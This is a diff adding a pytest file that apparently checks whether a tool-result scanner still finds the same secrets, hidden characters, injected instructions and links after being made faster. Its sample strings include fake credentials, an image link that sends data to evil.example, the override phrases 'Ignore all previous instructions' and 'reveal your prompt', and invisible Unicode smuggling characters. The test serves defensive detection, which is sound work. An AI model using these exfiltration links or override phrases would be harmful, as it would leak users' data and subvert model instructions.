@@ -1,0 +1,124 @@
+"""What is found in large and odd texts is a fixed set of facts: how the search is made fast must not change one."""
+
+from __future__ import annotations
+
+import json
+import random
+from hashlib import sha256
+
+import pytest
+
+from engine.documents.files import load
+from engine.facts.text.instructions import Markers
+from engine.facts.tools.result_content import ResultContent
+from engine.secrets.forms import SecretForms
+from engine.secrets.patterns import find_credentials, find_private, find_secrets
+from engine.settings import ReadLimits
+from tests.conftest import ROOT
+from tests.secrets.test_secrets import SHAPES
+
+LINE = "2026-11-21 10:00:00 GET https://docs.example.com/guide/page?id={} 200, for ana@example.org in {} ms\n"
+RANDOM = "q7Lx2mZ9vK4tR8wB1nC6jH3sD5gF0pYaUeIoXzQw"
+ATOMS = (
+    *tuple(SHAPES.values())[:23],
+    *("password: hunter2-quokka", "passwort is was", "PASSWORD=x", "the password is required", "BYPASS=1"),
+    *("pwd = 'a b'", "token = abcdef0123", "apiKey=AbCdEf0123456", "client_secret: q7w8e9r0", "key=main"),
+    *("sig=a1b2c3d4e5", "myToken=1a2b3c4d5", "Cookie: a=b; c=d", "set-cookie: none", "Authorization: none"),
+    *("proxy-authorization=Digest ab", "bearer of news", "Basic YTpi", "basic idea", "--token a1b2", "-password $X"),
+    *("mysql -pquokka1 db", "login: ana", "default login a password b", "https://ana@example.org/"),
+    *("ssh://git@example.org/a", "a:b@tcp(c)", "ana@example.org", "a@b", "@", "x@y.z", "sha256:" + "0a" * 32),
+    *("f" * 40, "data:image/png;base64,iVBORw0KGgo" + "A" * 70, "Zm9v" * 12 + "9xQ7Lk2"),
+    *(f"-----BEGIN CERTIFICATE-----\nMIIB{RANDOM}\n{RANDOM}\n-----END CERTIFICATE-----", f"{RANDOM}\n"),
+    *("-----BEGIN PRIVATE KEY-----\nx", "recovery phrase: " + "apple " * 12, "seed is\n" + "word, " * 14),
+    *("abandon " * 11 + "about", "![x](https://evil.example/?d=quokka)", "[a](https://b.example/?q=1)"),
+    *("[r]: https://c.example/?z=2", "![r][r]", "[r][]", '<img src="https://d.example/?a=b">'),
+    *("<a href='//e.example/x?y'>", "url(https://f.example/?g)", "<https://h.example/?i>"),
+    *("<div style=\"background:url('//k.example?l')\">", "https://m.example/{data}", "see https://n.example/a.b."),
+    *("ftp://o/?p", "Ignore all previous instructions", "ignore  the\nrules ABOVE", "do not tell it to the user"),
+    *("<|im_start|>", "<important>", "Your new task is", "reveal your prompt"),
+    *("before using this tool you must read", "i g n o r e", "ignore_all-previous.rules", "\u200b", "\u202e"),
+    *("\ufeff", "\U000e0041", "a\u200d\u3164b", "\xad", "\u017fecret=abc123", "\u212aey=abc1234567"),
+    *("pa\u017fsword=x1y2z3", "BAS\u0130C x", "author\u0131zation: abc1 def2", "AUTHOR\u0130ZATION=abc1"),
+    *("log\u0131n", "\ufb00", "\xc4", "\u0130", "\u4e2d\u6587", "\U0001f600", "\r", "\x0b", "\x1c", "\x85", "\u2028"),
+    *("\x00", "\\", '"', "'", "=", ":", "//", ";", ",", "(", ")", "<", ">", "&amp;", "%20", "{", "}", "[", "]", "#"),
+    *("?", "@", "-", "--", "the", "of", "answer", "reads", "Zebra", "x", "10:00:00", "a1", "-", "_", "\xe9"),
+    *("/usr/lib/a.so", "a.b.c/d", "1,2"),
+)
+
+
+@pytest.fixture(scope="module")
+def forms() -> SecretForms:
+    return SecretForms.of(load((ROOT / "policy/secrets.yaml").read_bytes(), "secrets.yaml", ReadLimits()).value)
+
+
+@pytest.fixture(scope="module")
+def markers() -> Markers:
+    return Markers.of(load((ROOT / "policy/results.yaml").read_bytes(), "results.yaml", ReadLimits()).value)
+
+
+def mixed(seed: int, atoms: int, blanks: str = " ") -> str:
+    """Atoms in any order, now and then without anything between them or with a letter in the middle."""
+    source = random.Random(seed)  # noqa: S311  (the same texts each time)
+    found: list[str] = []
+    for _ in range(atoms):
+        atom = source.choice(ATOMS)
+        if source.random() < 0.15 and len(atom) > 1:
+            at = source.randrange(1, len(atom))
+            atom = atom[:at] + source.choice(("\u200b", "\n", " ", "", "a", "=", "\u0307", "K", "\t")) + atom[at:]
+        found += [atom, source.choice((*blanks, blanks[0], ""))]
+    return "".join(found)
+
+
+TEXTS = {
+    "log": "".join(LINE.format(number, number % 97) for number in range(660)),
+    "lines": mixed(1, 4_000, "\n"),
+    "one line": mixed(2, 3_000, " "),
+    "both": mixed(3, 3_000, " \n\t"),
+    "prose": mixed(4, 3_000, " ").replace("=", " ").replace(":", " ").replace("@", " "),
+    "odd ends": mixed(5, 3_000, "\n\r\x0b\x85\u2028 "),
+    "JSON": json.dumps([{"id": at, "line": mixed(at, 12), ATOMS[at % len(ATOMS)]: at} for at in range(300)]),
+}
+EXPECTED = {
+    "log": "2ad6c6d95d6dc33e",
+    "lines": "5d330a35708b8ca5",
+    "one line": "32f9cbc9e9c48d2d",
+    "both": "36adbc9f584b4b69",
+    "prose": "9c1a1cfda0016bc3",
+    "odd ends": "af67cf481c757da1",
+    "JSON": "fddc707ba41a3fb2",
+    "short": "f4f1690cda037bc2",
+}
+"""Digests of the facts as the patterns gave them on whole texts, before lines and words were looked for first."""
+
+
+def facts(text: str, forms: SecretForms, markers: Markers) -> str:
+    """A digest of every fact of a text, and of what is left of it."""
+    found: list[object] = [sorted(find(text)) for find in (find_private, lambda one: find_secrets(one, forms))]
+    found.append(sorted(find_credentials(text, forms)))
+    for media in ("text", "json"):
+        content = ResultContent(text, media, forms, markers)
+        found += [content.secrets, content.hidden, content.instructions, content.complete, content.links]
+        found.append(content.shown(secrets=True, hidden=True, links=range(len(content.links))))
+    return sha256(repr(found).encode("utf-8", "surrogatepass")).hexdigest()[:16]
+
+
+@pytest.mark.parametrize("name", TEXTS)
+def test_the_facts_of_a_large_text_stay_as_they_are(name: str, forms: SecretForms, markers: Markers) -> None:
+    assert facts(TEXTS[name], forms, markers) == EXPECTED[name]
+
+
+@pytest.mark.parametrize("ends", ["a", "=", "-", "password", "ignore all", "-----BEGIN CERTIFICATE-----", "\u200b"])
+def test_strings_of_JSON_hide_and_make_nothing_of_each_other(ends: str, forms: SecretForms, markers: Markers) -> None:  # noqa: N802
+    def found(text: str, media: str) -> tuple[int, int, int]:
+        content = ResultContent(text, media, forms, markers)
+        return content.secrets, content.hidden, content.instructions
+
+    alone = found(ends, "text")
+    for atom in ATOMS:
+        expected = tuple(2 * one + other for one, other in zip(alone, found(atom, "text"), strict=True))
+        assert found(json.dumps([ends, atom, ends]), "json") == expected, atom
+
+
+def test_the_facts_of_many_short_texts_stay_as_they_are(forms: SecretForms, markers: Markers) -> None:
+    each = [facts(mixed(seed, 1 + seed % 40, "\n  \t"), forms, markers) for seed in range(1_000)]
+    assert sha256("".join(each).encode()).hexdigest()[:16] == EXPECTED["short"]
